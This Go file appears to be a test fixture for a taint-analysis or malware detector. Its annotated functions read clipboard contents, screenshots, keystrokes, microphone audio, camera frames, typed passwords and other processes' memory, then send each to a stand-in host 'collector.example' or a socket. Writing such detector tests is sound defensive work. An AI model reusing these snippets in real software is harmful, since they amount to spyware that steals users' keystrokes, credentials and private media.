// Clipboard, screen, keyboard, microphone, camera.
package models

import (
	"bytes"
	"context"
	"fmt"
	"image/png"
	"net"
	"net/http"
	"os"
	"strconv"
	"syscall"
	"unsafe"

	"github.com/MarinX/keylogger"
	"github.com/atotto/clipboard"
	"github.com/blackjack/webcam"
	"github.com/eiannone/keyboard"
	"github.com/go-vgo/robotgo"
	"github.com/gordonklaus/portaudio"
	evdev "github.com/holoplot/go-evdev"
	"github.com/kbinani/screenshot"
	hook "github.com/robotn/gohook"
	"gocv.io/x/gocv"
	xclipboard "golang.design/x/clipboard"
	"golang.org/x/term"
)

const U = "https://collector.example/u?"

func pasted() {
	text, _ := clipboard.ReadAll() //~ source(CLIPBOARD) f1, capability(CLIPBOARD)
	http.Get(U + text) //~ sink(egress.http) f1, finding(traced) f1
}

func pastedUnused() {
	clipboard.ReadAll() //~ ok
}

func pastedBytes(c net.Conn) {
	c.Write(xclipboard.Read(xclipboard.FmtText)) //~ source(CLIPBOARD) f3, sink(egress.socket) f3, finding(traced) f3, capability(CLIPBOARD)
}

func pastedBytesUnused() {
	xclipboard.Read(xclipboard.FmtText) //~ ok
}

func pastedOnChange(c net.Conn, ctx context.Context) {
	for b := range xclipboard.Watch(ctx, xclipboard.FmtText) { //~ source(CLIPBOARD) f5, capability(CLIPBOARD)
		c.Write(b) //~ sink(egress.socket) f5, finding(traced) f5
	}
}

func pastedOnChangeUnused(ctx context.Context) {
	xclipboard.Watch(ctx, xclipboard.FmtText) //~ ok
}

func copied() {
	clipboard.WriteAll("text") //~ capability(CLIPBOARD)
}

func copiedNamed() {
	err := clipboard.WriteAll(os.Getenv("T")) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func screen() {
	img, _ := screenshot.CaptureDisplay(0) //~ source(SCREEN) f9, capability(SCREEN)
	var b bytes.Buffer
	png.Encode(&b, img)
	http.Post(U, "image/png", &b) //~ sink(egress.http) f9, finding(traced) f9
}

func screenUnused() {
	screenshot.CaptureDisplay(0) //~ ok
}

func robot() {
	bitmap := robotgo.CaptureScreen() //~ source(SCREEN) f11, capability(SCREEN)
	http.Get(U + fmt.Sprint(bitmap)) //~ sink(egress.http) f11, finding(traced) f11
}

func robotUnused() {
	robotgo.CaptureScreen() //~ ok
}

func hooked() {
	for event := range hook.Start() { //~ source(KEYSTROKE) f13, capability(KEYBOARD)
		http.Get(U + string(event.Keychar)) //~ sink(egress.http) f13, finding(traced) f13
	}
}

func hookedUnused() {
	hook.Start() //~ ok
}

func registered() {
	hook.Register(hook.KeyDown, []string{}, func(event hook.Event) { //~ source(KEYSTROKE) f15, capability(KEYBOARD)
		http.Get(U + string(event.Keychar)) //~ sink(egress.http) f15, finding(traced) f15
	})
}

func registeredUnused() {
	hook.Register(hook.KeyDown, []string{}, func(event hook.Event) {}) //~ ok
}

func device() {
	k, _ := keylogger.New("/dev/input/event3") //~ capability(KEYBOARD)
	for event := range k.Read() { //~ source(KEYSTROKE) f17
		http.Get(U + event.KeyString()) //~ sink(egress.http) f17, finding(assumed) f17
	}
}

func deviceUnused() {
	k, _ := keylogger.New("/dev/input/event3") //~ ok
	k.Close()
}

func deviceRead(k *keylogger.KeyLogger) {
	for event := range k.Read() { //~ source(KEYSTROKE) f19
		http.Get(U + string(event.Code)) //~ sink(egress.http) f19, finding(traced) f19
	}
}

func deviceReadUnused(k *keylogger.KeyLogger) {
	k.Read() //~ ok
}

func key() {
	char, _, _ := keyboard.GetKey() //~ source(KEYSTROKE) f21, capability(KEYBOARD)
	http.Get(U + string(char)) //~ sink(egress.http) f21, finding(traced) f21
}

func keyUnused() {
	keyboard.GetKey() //~ ok
}

func event(d *evdev.InputDevice) {
	e, _ := d.ReadOne() //~ source(KEYSTROKE) f23, capability(KEYBOARD)
	http.Get(U + strconv.Itoa(int(e.Code))) //~ sink(egress.http) f23, finding(traced) f23
}

func eventUnused(d *evdev.InputDevice) {
	d.ReadOne() //~ ok
}

func heard(c net.Conn) {
	b := make([]byte, 64)
	portaudio.OpenDefaultStream(1, 0, 44100, 64, b) //~ source(AUDIO) f25, capability(MICROPHONE)
	c.Write(b) //~ sink(egress.socket) f25, finding(traced) f25
}

func heardUnused() {
	portaudio.OpenDefaultStream(1, 0, 44100, 64, nil) //~ ok
}

func camera() {
	v, _ := gocv.OpenVideoCapture(0) //~ capability(CAMERA)
	m := gocv.NewMat()
	v.Read(&m) //~ source(CAMERA) f27
	http.Get(U + fmt.Sprint(m)) //~ sink(egress.http) f27, finding(traced) f27
}

func cameraUnused() {
	v, _ := gocv.OpenVideoCapture(0) //~ ok
	v.Close()
}

func frame(v *gocv.VideoCapture) {
	m := gocv.NewMat()
	v.Read(&m) //~ source(CAMERA) f29, capability(CAMERA)
	http.Get(U + fmt.Sprint(m)) //~ sink(egress.http) f29, finding(traced) f29
}

func frameUnused(v *gocv.VideoCapture) {
	v.Read(nil) //~ ok
}

func webcamFrame(w *webcam.Webcam, c net.Conn) {
	b, _ := w.ReadFrame() //~ source(CAMERA) f31, capability(CAMERA)
	c.Write(b) //~ sink(egress.socket) f31, finding(traced) f31
}

func webcamFrameUnused(w *webcam.Webcam) {
	w.ReadFrame() //~ ok
}

func typed(c net.Conn) {
	b, _ := term.ReadPassword(0) //~ source(CREDENTIAL) f33, capability(CREDENTIALS)
	c.Write(b) //~ sink(egress.socket) f33, finding(traced) f33
}

func typedUnused() {
	term.ReadPassword(0) //~ ok
}

func pressed() {
	state := syscall.NewLazyDLL("user32.dll").NewProc("GetAsyncKeyState") //~ source(KEYSTROKE) f35, capability(KEYBOARD)
	r, _, _ := state.Call(65)
	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f35, finding(traced) f35
}

func pressedUnused() {
	syscall.NewLazyDLL("user32.dll").NewProc("GetAsyncKeyState") //~ ok
}

func clipboardHandle() {
	get := syscall.NewLazyDLL("user32.dll").NewProc("GetClipboardData") //~ source(CLIPBOARD) f37, capability(CLIPBOARD)
	r, _, _ := get.Call(13)
	http.Get(U + fmt.Sprint(r)) //~ sink(egress.http) f37, finding(traced) f37
}

func clipboardHandleUnused() {
	syscall.NewLazyDLL("user32.dll").NewProc("GetClipboardData") //~ ok
}

func otherMemory(c net.Conn, handle uintptr) {
	b := make([]byte, 64)
	read := syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ source(MEMORY) f39, capability(MEMORY)
	read.Call(handle, 0, uintptr(unsafe.Pointer(&b[0])), 64, 0)
	c.Write(b) //~ sink(egress.socket) f39, MISSING: finding(traced) f39
}

func otherMemoryBuffer(c net.Conn, handle uintptr) {
	b := make([]byte, 64)
	read := syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ source(MEMORY) f40, capability(MEMORY)
	read.Call(handle, 0, b, 64, 0)
	c.Write(b) //~ sink(egress.socket) f40, finding(traced) f40
}

func otherMemoryUnused() {
	syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ ok
}

func windowTitle(c net.Conn, handle uintptr) {
	b := make([]byte, 64)
	get := syscall.NewLazyDLL("user32.dll").NewProc("GetWindowTextW") //~ source(PROCESS) f42, capability(PROCESSES)
	get.Call(handle, b, 64)
	c.Write(b) //~ sink(egress.socket) f42, finding(traced) f42
}

func windowTitleUnused() {
	syscall.NewLazyDLL("user32.dll").NewProc("GetWindowTextW") //~ ok
}

func procedure() {
	state := syscall.NewLazyDLL("user32.dll").NewProc("GetKeyState") //~ source(KEYSTROKE) f44
	r, _, _ := state.Call(65)
	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f44, finding(traced) f44
}

func procedureOther() {
	beep := syscall.NewLazyDLL("user32.dll").NewProc("MessageBeep") //~ ok
	r, _, _ := beep.Call(0)
	http.Get(U + strconv.Itoa(int(r))) //~ ok
}

func called() {
	state := syscall.NewLazyDLL("user32.dll").NewProc("GetKeyState") //~ source(KEYSTROKE) f46
	r, _, _ := state.Call(65) //~ capability(NATIVE)
	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f46, finding(traced) f46
}

func calledOther(p *syscall.LazyProc) {
	r, _, _ := p.Call(uintptr(os.Getpid())) //~ ok
	http.Get(U + strconv.Itoa(int(r))) //~ ok
}
